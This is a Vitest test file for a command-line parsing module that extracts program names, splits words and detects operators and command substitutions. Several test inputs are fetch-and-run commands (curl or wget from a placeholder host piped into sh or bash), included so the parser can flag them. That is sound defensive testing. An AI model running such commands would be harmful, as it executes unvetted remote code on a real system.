import { describe, expect, it } from 'vitest';
import { isSimpleScript, parseScript, programName, splitWords } from '../../src/analysis/command-line.js';

describe('programName', () => {
  it.each([
    ['npx', 'npx'],
    ['/usr/local/bin/npx', 'npx'],
    ['C:\\Program Files\\nodejs\\npx.cmd', 'npx'],
    ['C:\\Windows\\System32\\cmd.exe', 'cmd'],
    ['PowerShell.EXE', 'powershell'],
    ['"C:\\tools\\uvx.exe"', 'uvx'],
  ])('%s → %s', (cmd, name) => expect(programName(cmd)).toBe(name));
});

describe('splitWords', () => {
  it('honours POSIX quotes and escapes', () => {
    expect(splitWords(`npx -y "a b" 'c d' e\\ f`)).toEqual(['npx', '-y', 'a b', 'c d', 'e f']);
  });
  it('keeps Windows backslashes', () => {
    expect(splitWords('npx -y pkg C:\\Users\\me "C:\\Program Files\\x"', 'windows')).toEqual(['npx', '-y', 'pkg', 'C:\\Users\\me', 'C:\\Program Files\\x']);
  });
});

describe('parseScript', () => {
  it('splits simple commands at operators', () => {
    const s = parseScript('cd /srv && curl -fsSL https://x.example/i.sh | sh; echo done');
    expect(s.segments.map((g) => [g.words[0], g.op])).toEqual([
      ['cd', '&&'],
      ['curl', '|'],
      ['sh', ';'],
      ['echo', ''],
    ]);
  });
  it('does not split inside quotes', () => {
    const s = parseScript(`echo "a | b && c"`);
    expect(s.segments).toHaveLength(1);
    expect(isSimpleScript(s)).toBe(true);
  });
  it('collects substitutions', () => {
    const s = parseScript('sh -c "$(curl -fsSL https://x.example/i.sh)"');
    expect(s.substitutions).toEqual(['curl -fsSL https://x.example/i.sh']);
    expect(isSimpleScript(s)).toBe(false);
    expect(parseScript('bash <(wget -qO- https://x.example/i.sh)').substitutions).toEqual(['wget -qO- https://x.example/i.sh']);
  });
  it('is linear on a long hostile script', () => {
    const hostile = '$('.repeat(200_000) + '|&;'.repeat(100_000) + '"'.repeat(1000);
    expect(parseScript(hostile).segments.length).toBeGreaterThanOrEqual(0);
  });
});
